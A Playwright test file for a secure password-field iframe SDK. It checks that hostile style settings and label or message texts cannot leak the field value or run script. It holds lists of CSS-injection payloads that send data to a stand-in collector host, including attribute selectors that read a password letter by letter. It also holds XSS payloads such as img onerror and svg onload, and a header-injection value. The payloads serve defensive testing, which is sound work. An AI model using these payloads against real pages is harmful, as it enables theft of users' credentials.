"""Style and texts that a hostile page gives its fields."""

import json
import re
from typing import Any

import pytest
from playwright.async_api import Page, expect

from tests.support.chromium import Site
from tests.support.client import Server
from tests.support.hostile import (
    MOUNT,
    ONE,
    VALUE,
    raw,
)
from tests.support.secure_page import field_in, visit

pytestmark = pytest.mark.asyncio(loop_scope="session")


_CSS = (
    "url(COLLECTOR)",
    "URL( 'COLLECTOR' )",
    "u\\72l(COLLECTOR)",
    "\\75rl(COLLECTOR)",
    "url/**/(COLLECTOR)",
    "image-set('COLLECTOR' 1x)",
    "-webkit-image-set(url(COLLECTOR) 1x)",
    "image(COLLECTOR)",
    "cross-fade(url(COLLECTOR), red)",
    "src('COLLECTOR')",
    "element(#password)",
    "paint(x)",
    "red; background: url(COLLECTOR)",
    "red} input{background:url(COLLECTOR)}",
    "red} input[value^=K]{background:url(COLLECTOR)} x{color:red",
    "red} @import 'COLLECTOR'; x{color:red",
    "@import url(COLLECTOR)",
    "red/*",
    "*/ url(COLLECTOR) /*",
    "var(--x)",
    "var(--x, url(COLLECTOR))",
    "env(x, url(COLLECTOR))",
    "attr(value)",
    "attr(value type(<color>))",
    "if(style(--x: url(COLLECTOR)): red)",
    "expression(alert(1))",
    "calc(url(COLLECTOR))",
    "rgb(url(COLLECTOR))",
    "counter(x)",
    "'\\27 ; background: url(COLLECTOR)'",
    '"\n} input { background: url(COLLECTOR) }',
    "<!-- url(COLLECTOR) -->",
    "red !important",
    "\ufeffred\u2028}",
    "u\u200brl(COLLECTOR)",
    "(" * 150,
    "x" * 100_000,
    "red, " * 40_000,
)
_SELECTORS = (
    "input[value^=K]",
    ":has([value^=K])",
    ":focus, input[value^=K]",
    ":focus{} input",
    "::before",
    "::after",
    ":not(:focus)",
    ":hover[value]",
    "@import 'COLLECTOR'; input",
    "",
    "::placeholder, *",
    "__proto__",
)
_KEYS = (
    *("background", "backgroundImage", "content", "cursor", "listStyleImage", "borderImage"),
    *("mask", "filter", "clipPath", "--x", "src", "behavior", "width", "maxWidth", "display"),
    *("animation", "transition", "fieldSizing", "cssText", "all", "color;background", "zoom"),
    *("webkitTextSecurity", "-webkit-text-security", "WebkitTextSecurity", "__proto__"),
)
_SHEETS = """() => [...document.adoptedStyleSheets, ...document.styleSheets]
  .flatMap((sheet) => [...sheet.cssRules]).map((rule) => rule.cssText)"""


def _styles(collector: str) -> list[dict[str, Any]]:
    """One attempt each, in every place where a value or a selector could stand."""
    values = [one.replace("COLLECTOR", collector) for one in _CSS]
    keys = ("color", "fontFamily", "textShadow", "height", "fontSmoothing")
    selectors = [one.replace("COLLECTOR", collector) for one in _SELECTORS]
    return [
        *({"base": {key: value}} for value in values for key in keys),
        *({"base": {"::placeholder": {"color": value}}} for value in values),
        *({"base": {selector: {"color": f"url({collector})"}}} for selector in selectors),
        *({selector: {"color": "red"}} for selector in selectors),
        *({"base": {"::before": {"content": "attr(value)"}}} for _ in range(1)),
        *({"base": {key: f"url({collector})"}} for key in _KEYS),
        *({"base": {key: "none"}} for key in _KEYS),
    ]


async def test_no_style_asks_the_network_or_looks_at_the_value(
    page: Page, bank: Site, stranger: Site, server: Server
):
    """Attribute selectors read a value letter by letter; url() carries it away. The frame gets
    each try by itself, as from a page without our SDK, and keeps none of it."""
    collector = f"{stranger.origin}/seen"
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    hostile = await raw(page, bank, server)
    await hostile.open("one")
    await hostile.put("one", VALUE)
    ours = await hostile.frame().evaluate(_SHEETS)
    styles = _styles(collector)
    for style in styles:
        await page.evaluate(
            """(style) => opened.one.port.postMessage(
              { does: "update", settings: { style: JSON.parse(style) } },
            )""",
            json.dumps(style),
        )
        await hostile.ask("one", "check")
        rules = await hostile.frame().evaluate(_SHEETS)
        assert [one for one in rules[len(ours) :] if _bad(one)] == [], style
        assert rules[: len(ours)] == ours
    await hostile.send("one", {"does": "update", "settings": {"style": {"base": {"color": "red"}}}})
    await hostile.ask("one", "check")
    assert "input { color: red; }" in await hostile.frame().evaluate(_SHEETS)  # the control
    assert [one for one in asked if one.startswith(stranger.origin)] == []
    assert stranger.received == []


def _bad(rule: str) -> bool:
    """Anything but one declaration of the list, on our own selectors."""
    selector, _, body = rule.partition("{")
    known = re.fullmatch(
        r"input(\.empty|\.valid|\.invalid)?"
        r"(:hover|:focus|::placeholder|::selection|:-webkit-autofill|:autofill)? ",
        selector,
    )
    return not known or re.search(r"[\\@(]|url|attr|important|--", body) is not None


async def test_the_sdk_tells_the_programmer_which_style_it_refuses(
    page: Page, bank: Site, server: Server
):
    await visit(page, bank, server, ONE, MOUNT)
    styles = _styles("https://collector.example")
    codes = await page.evaluate(
        """(styles) => JSON.parse(styles).map((style) => {
          try { input.update({ style }); return "taken"; } catch ({ code }) { return code; }
        })""",
        json.dumps(styles),
    )
    taken = [style for style, code in zip(styles, codes, strict=True) if code != "STYLE_REFUSED"]
    assert taken == []


_MARKUP = (
    "<img src=x onerror=\"window.pwned = 1; parent.postMessage(['pwned'], '*')\">",
    "<script>window.pwned = 1</script>",
    '"><svg onload=pwned=1>',
    "</label></form><form action=COLLECTOR><button>",
    "<style>input{background:url(COLLECTOR)}</style>",
    "javascript:pwned=1",
    "&lt;b&gt;&#x3c;i&#x3e;",
    "{shortest}{constructor}{__proto__}${pwned=1}{{pwned=1}}",
    "\u202e\u0000\ud800<b>",
)


async def test_texts_stay_texts(page: Page, bank: Site, stranger: Site, server: Server):
    """Label, placeholder and messages with markup in them; language, direction, scheme."""
    hostile = await raw(page, bank, server)
    await hostile.open("one", fresh=True)
    await hostile.put("one", VALUE)
    await field_in(page, "#one").blur()
    frame = hostile.frame()
    shape = "[...document.querySelectorAll('*')].map((one) => one.tagName)"
    plain = await frame.evaluate(shape)
    for markup in _MARKUP:
        text = markup.replace("COLLECTOR", stranger.origin)
        messages = dict.fromkeys(("valid", "invalid", "match", "mismatch"), text)
        settings = {
            **dict.fromkeys(
                ("label", "placeholder", "lang", "dir", "scheme", "autocomplete"), text
            ),
            **{"fresh": True, "messages": messages},
        }
        await hostile.send("one", {"does": "update", "settings": settings})
        await hostile.ask("one", "check")
        assert await frame.evaluate(shape) == plain
        root = await frame.evaluate(
            "(({ lang, dir, style }) => [lang, dir, style.cssText])(document.documentElement)"
        )
        assert root == ["", "ltr", "color-scheme: normal;"]
        assert await field_in(page, "#one").get_attribute("autocomplete") == "new-password"
        assert await frame.evaluate("typeof pwned") == "undefined"
    assert await frame.locator("label").inner_html() not in _MARKUP
    assert await page.evaluate("heard.map(({ data }) => data)") == ["assent:hello"]
    assert stranger.received == []


async def test_markup_through_the_sdk_stays_text(page: Page, bank: Site, server: Server):
    """In the page, too: titles, class names, errors."""
    script = """
    OpcUxSecureClient.init("UI_KEY");
    const form = OpcUxSecureClient.form();
    const errors = [];
    for (const text of MARKUP) {
      const place = document.createElement("div");
      place.setAttribute("lang", text);
      document.body.append(place);
      try {
        const classNames = { base: text, empty: text };
        form.input(text, "password", { label: text, placeholder: text, classNames }).mount(place);
      } catch (error) { errors.push(error.message); }
      const style = { [text]: 1 };
      for (const given of [[text, text], ["x", "password", { [text]: text, style }]]) {
        try { form.input(...given); } catch (error) { errors.push(error.message); }
      }
    }
    """
    # no script may hold the end of one
    markup = json.dumps(_MARKUP).replace("</", "<\\/")
    await visit(page, bank, server, "", script.replace("MARKUP", markup))
    await expect(page.locator("iframe")).to_have_count(len(_MARKUP))
    await page.wait_for_function("errors.length >= 2 * 9")
    assert await page.evaluate("typeof pwned") == "undefined"
    assert await page.locator("img, svg, style, button").count() == 0


@pytest.mark.parametrize("key", ["<script>pwned=1</script>", '"><svg onload=pwned=1>', "a\r\nb: c"])
async def test_a_hostile_key_shows_nothing(page: Page, bank: Site, server: Server, key: str):
    hostile = await raw(page, bank, server)
    async with page.expect_response(lambda one: "/field?" in one.url) as answering:
        await page.evaluate("(key) => field('one', 'password', {}, key)", key)
    answer = await answering.value
    assert answer.status == 404
    assert (await answer.all_headers())["x-content-type-options"] == "nosniff"
    assert await hostile.told("one") == []
